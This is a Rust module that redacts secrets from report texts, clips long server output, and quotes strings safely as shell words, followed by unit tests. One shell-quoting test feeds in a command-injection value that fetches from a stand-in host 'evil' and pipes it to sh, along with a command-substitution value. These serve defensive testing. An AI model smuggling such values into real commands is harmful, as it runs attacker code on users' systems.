//! How texts of others are quoted: without secrets, short, and as one word of a shell.

use mcp_proto::http::client::Url;
use mcp_proto_trace::Mask;

/// Values that no text of the report may show.
#[derive(Default)]
pub(super) struct Secrets(Vec<String>);

impl Secrets {
    /// Adds a value, and what follows the scheme of a credential.
    pub(super) fn add(&mut self, value: &str) {
        let credential = value.trim().split_once(' ').map_or("", |(_, credential)| credential);
        for secret in [value, credential].map(str::trim) {
            // Quoted texts escape some characters.
            let quoted = format!("{secret:?}");
            let quoted = quoted.trim_matches('"').to_owned();
            let forms = [secret.to_owned(), quoted].into_iter();
            self.0.extend(forms.filter(|secret| secret.len() >= MIN_SECRET));
        }
        // A secret may be a part of another one.
        self.0.sort_by_key(|secret| core::cmp::Reverse(secret.len()));
        self.0.dedup();
    }

    /// Replaces each secret in a text, and the beginning of one where [`clip`] cut it off.
    pub(super) fn redact(&self, mut text: String) -> String {
        for secret in &self.0 {
            if text.contains(secret) {
                text = text.replace(secret, "…");
            }
            let parts = (MIN_SECRET..secret.len()).rev().filter_map(|length| secret.get(..length));
            if let Some(part) = { parts }.map(|part| format!("{part}…")).find(|part| text.contains(part)) {
                text = text.replace(&part, "…");
            }
        }
        text
    }
}

/// Replaces what is a secret by its form or by its place in a URL.
pub(super) fn masked(text: &str) -> String {
    Mask::default().words(&Url::redacted_in(text))
}

/// Shortens a text of the server, without secrets.
pub(super) fn clip(text: &str) -> String {
    // A secret that is cut off is not known by its form any more.
    let text = masked(text);
    let short: String = text.chars().take(MAX_SHOWN).collect();
    if short.len() < text.len() { format!("{short}…") } else { short }
}

/// Returns a text as one word of a shell, for a command that a person may copy.
pub(super) fn shell_word(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._:/@-".contains(c);
    match !text.is_empty() && text.chars().all(is_plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

/// Maximum number of characters shown of a text of the server.
const MAX_SHOWN: usize = 160;
/// Length of the shortest text that can be told from others.
const MIN_SECRET: usize = 6;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_hidden_whole_cut_off_and_quoted() {
        let mut secrets = Secrets::default();
        secrets.add("Bearer s3cr3t\"token");
        secrets.add("short");
        for (text, expected) in [
            ("no Bearer s3cr3t\"token here", "no … here"),
            ("no s3cr3t\"token here", "no … here"),
            (r#"no "s3cr3t\"token" here"#, r#"no "…" here"#),
            (r#"cut "key s3cr3t…" here"#, r#"cut "key …" here"#),
            ("short, s3cr3 and Bearer", "short, s3cr3 and Bearer"),
        ] {
            assert_eq!(secrets.redact(text.to_owned()), expected);
        }
    }

    #[test]
    fn clipped_texts_hold_no_secrets_by_form_or_place() {
        let key = format!("sk-{}", "a1b2c3d4".repeat(4));
        let text = format!("{} key {key}", "word ".repeat(30));
        assert!(!clip(&text).contains("sk-a"), "{}", clip(&text));
        assert_eq!(clip("at http://h/?MCP_PROXY_AUTH_TOKEN=deadbeef now"), "at http://h/?… now");
    }

    #[test]
    fn words_of_a_shell_run_nothing() {
        for (text, expected) in [
            ("https://h.example:1/a_b-c", "https://h.example:1/a_b-c"),
            ("a;curl${IFS}evil|sh", "'a;curl${IFS}evil|sh'"),
            ("a'$(x)'", r"'a'\''$(x)'\'''"),
            ("http://h/?…", "'http://h/?…'"),
            ("", "''"),
        ] {
            assert_eq!(shell_word(text), expected);
        }
    }
}
